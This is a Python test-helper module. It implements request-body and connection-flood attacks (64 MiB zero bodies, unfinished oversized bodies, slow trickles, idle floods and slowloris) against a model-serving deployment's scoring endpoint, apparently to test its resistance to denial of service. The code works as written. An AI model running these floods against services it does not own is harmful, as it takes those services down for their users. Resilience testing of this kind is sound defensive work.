"""The body attacks of issue 21, as a client would make them against a deployment's scoring URI: used by
tests/test_body_safety.py and benchmarks/bench_body_attacks.py."""

from __future__ import annotations

import functools
import socket
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from urllib.parse import urlsplit

import requests

ZEROS_BYTES = 64 * 2**20 - 4096  # `0,0,0,...` just under a 64 MiB limit
UNFINISHED = 9
UNFINISHED_BYTES = 100 * 2**20
SLOW_CONNECTIONS = 256


def _connect(uri: str, timeout: float = 60) -> tuple[socket.socket, str]:
    url = urlsplit(uri)
    return socket.create_connection((url.hostname, url.port), timeout=timeout), url.hostname or ""


def _head(host: str, length: int, path: str = "/score") -> bytes:
    return (f"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
            f"Content-Length: {length}\r\n\r\n").encode()


def _status(conn: socket.socket) -> int:
    """The status of the answer on `conn` (0 when it closed without one)."""
    try:
        answer = conn.recv(65536)
    except OSError:
        return 0
    return int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/1.1 ") else 0


@functools.lru_cache(maxsize=2)
def zeros_body(size: int = ZEROS_BYTES, v2: bool = False) -> bytes:
    """JSON of `0,0,0,...` of `size` bytes: one row for /score, one tensor for V2 (made once: building it
    holds the client's GIL, which would delay the probes' requests in the same process)."""
    if v2:
        head, tail = b'{"inputs":[{"name":"x","datatype":"FP32","shape":[1,784],"data":[', b"0]}]}"
    else:
        head, tail = b'{"data":[[', b"0]]}"
    count = (size - len(head) - len(tail)) // 2
    return head + b"0," * count + tail


def send_zeros(uri: str, v2_uri: str | None = None) -> int:
    """POSTs 64 MiB of `0,` (to the V2 infer URL when given); the answer's status (0: no answer)."""
    url = v2_uri or uri
    try:
        return requests.post(url, data=zeros_body(v2=v2_uri is not None), timeout=120,
                             headers={"Content-Type": "application/json"}).status_code
    except requests.RequestException:
        return 0


@dataclass
class Held:
    """Connections an attack holds open, and the statuses they were answered with (0: none yet)."""

    conns: list[socket.socket] = field(default_factory=list)
    statuses: list[int] = field(default_factory=list)
    threads: list[threading.Thread] = field(default_factory=list)
    refused: int = 0  # connections the port did not take in time (its listen queue full)

    def close(self) -> None:
        for conn in self.conns:
            try:
                conn.close()
            except OSError:
                pass
        for thread in self.threads:
            thread.join(timeout=10)


def hold_unfinished(uri: str, count: int = UNFINISHED, size: int = UNFINISHED_BYTES) -> Held:
    """`count` connections, each sending `size` bytes of a body declared 1 MiB longer, then holding it
    unfinished; returns once each has sent its bytes or been answered."""
    held = Held(statuses=[0] * count)
    piece = b"0," * (2**20 // 2)

    def one(i: int) -> None:
        conn, host = _connect(uri)
        held.conns.append(conn)
        try:
            conn.sendall(_head(host, size + 2**20) + b'{"data":[[')
            for _ in range(size // len(piece)):
                conn.sendall(piece)
        except OSError:
            pass  # answered (503/413) and closed before all of it was sent
        conn.settimeout(0.5)
        held.statuses[i] = _status(conn)

    for i in range(count):
        thread = threading.Thread(target=one, args=(i,), daemon=True)
        thread.start()
        held.threads.append(thread)
    for thread in held.threads:
        thread.join(timeout=120)
    held.threads.clear()
    return held


def hold_slow(uri: str, count: int = SLOW_CONNECTIONS, seconds: float = 15.0) -> Held:
    """`count` connections whose bodies (declared 1 MB) trickle a byte a second for `seconds`, in the
    background; `statuses` fill in as the server answers them."""
    held = Held(statuses=[0] * count)
    for _ in range(count):
        conn, host = _connect(uri, timeout=5)
        conn.sendall(_head(host, 10**6) + b'{"data":[[')
        held.conns.append(conn)
    stop = time.monotonic() + seconds

    def trickle() -> None:
        while time.monotonic() < stop:
            for i, conn in enumerate(held.conns):
                if held.statuses[i]:
                    continue
                try:
                    conn.setblocking(False)
                    answer = conn.recv(65536)
                    held.statuses[i] = int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/1.1 ") else -1
                    continue
                except BlockingIOError:
                    pass
                except OSError:
                    held.statuses[i] = -1
                    continue
                try:
                    conn.send(b"0")
                except OSError:
                    held.statuses[i] = -1
            time.sleep(1.0)

    thread = threading.Thread(target=trickle, daemon=True)
    thread.start()
    held.threads.append(thread)
    return held


@dataclass
class Probe:
    """Ordinary single-row requests and /health, one after another, while an attack runs."""

    uri: str
    row: list[float]
    fresh: bool = False  # each row on a new connection, as a new client sends it (else one kept connection)
    latencies: list[float] = field(default_factory=list)
    statuses: list[int] = field(default_factory=list)
    health: list[int] = field(default_factory=list)
    _stop: threading.Event = field(default_factory=threading.Event)
    _thread: threading.Thread | None = None

    def start(self, pause: float = 0.05) -> Probe:
        health_uri = self.uri.rsplit("/", 1)[0] + "/health"

        def loop() -> None:
            session = requests.Session()
            while not self._stop.is_set():
                started = time.perf_counter()
                try:
                    status = (requests if self.fresh else session).post(self.uri, json={"data": [self.row]},
                                                                       timeout=10).status_code
                except requests.RequestException:
                    status = 0
                    session = requests.Session()
                self.latencies.append(time.perf_counter() - started)
                self.statuses.append(status)
                try:
                    self.health.append(requests.get(health_uri, timeout=10).status_code)
                except requests.RequestException:
                    self.health.append(0)
                self._stop.wait(pause)

        self._thread = threading.Thread(target=loop, daemon=True)
        self._thread.start()
        return self

    def stop(self) -> Probe:
        self._stop.set()
        if self._thread is not None:
            self._thread.join(timeout=30)
        return self


def during(attack: Callable[[], object], probe: Probe) -> object:
    """Runs `attack` while `probe` sends ordinary requests; returns what the attack returned."""
    probe.start()
    try:
        return attack()
    finally:
        probe.stop()


# The front's attacks: connections that never finish their headers, or send nothing, held against one port.

FRONT_CONNECTIONS = 1500  # beyond a frontend's share (front.ROUTE_MAXCONN), far below the front's global maxconn


def open_held(uri: str, count: int, first: bytes = b"", connect_timeout: float = 2.0,
              give_up_after: int = 0) -> Held:
    """`count` connections to `uri`'s port, each having sent `first` (nothing: idle); those the port did not
    take within `connect_timeout` (its listen queue full) are counted in `refused`, and after `give_up_after`
    of them in a row (0: never) no more are tried."""
    held = Held()
    for _ in range(count):
        if give_up_after and held.refused >= give_up_after:
            break
        try:
            conn, _host = _connect(uri, timeout=connect_timeout)
            if first:
                conn.sendall(first)
            held.conns.append(conn)
            held.statuses.append(0)
        except OSError:
            held.refused += 1
    return held


def hold_idle(uri: str, count: int = FRONT_CONNECTIONS) -> Held:
    """`count` connections that send nothing."""
    return open_held(uri, count)


def hold_slowloris(uri: str, count: int = FRONT_CONNECTIONS, seconds: float = 15.0) -> Held:
    """`count` connections sending their request's headers a byte a second each (never finishing them within
    `seconds`), in the background; `statuses` fill in as the front answers or closes them (-1: closed)."""
    head = f"GET /health HTTP/1.1\r\nHost: {urlsplit(uri).hostname}\r\nX-Padding: {'a' * 200}\r\n".encode()
    held = open_held(uri, count, first=head[:1])
    stop = time.monotonic() + seconds
    answered = held.statuses

    def trickle() -> None:
        sent = 1
        while time.monotonic() < stop and sent < len(head):
            for i, conn in enumerate(held.conns):
                if answered[i]:
                    continue
                try:
                    conn.setblocking(False)
                    answer = conn.recv(65536)
                    answered[i] = int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/1.1 ") else -1
                    continue
                except BlockingIOError:
                    pass
                except OSError:
                    answered[i] = -1
                    continue
                try:
                    conn.send(head[sent:sent + 1])
                except OSError:
                    answered[i] = -1
            sent += 1
            time.sleep(1.0)

    thread = threading.Thread(target=trickle, daemon=True)
    thread.start()
    held.threads.append(thread)
    return held


def closed_by_peer(held: Held) -> int:
    """How many of `held`'s connections the other side has closed (or answered) by now."""
    closed = 0
    for conn in held.conns:
        try:
            conn.setblocking(False)
            if conn.recv(65536, socket.MSG_PEEK) is not None:
                closed += 1
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
    return closed
